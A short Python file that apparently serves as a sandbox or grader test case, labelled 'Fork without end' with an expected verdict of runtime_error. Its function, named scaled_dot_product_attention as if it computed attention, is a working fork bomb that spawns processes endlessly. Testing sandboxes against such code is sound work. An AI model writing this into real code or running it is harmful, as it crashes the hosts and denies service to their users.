"""Fork without end.

rows: 74
verdicts: runtime_error
"""
import os


def scaled_dot_product_attention(q, k, v, scale=None):
    while True:
        os.fork()
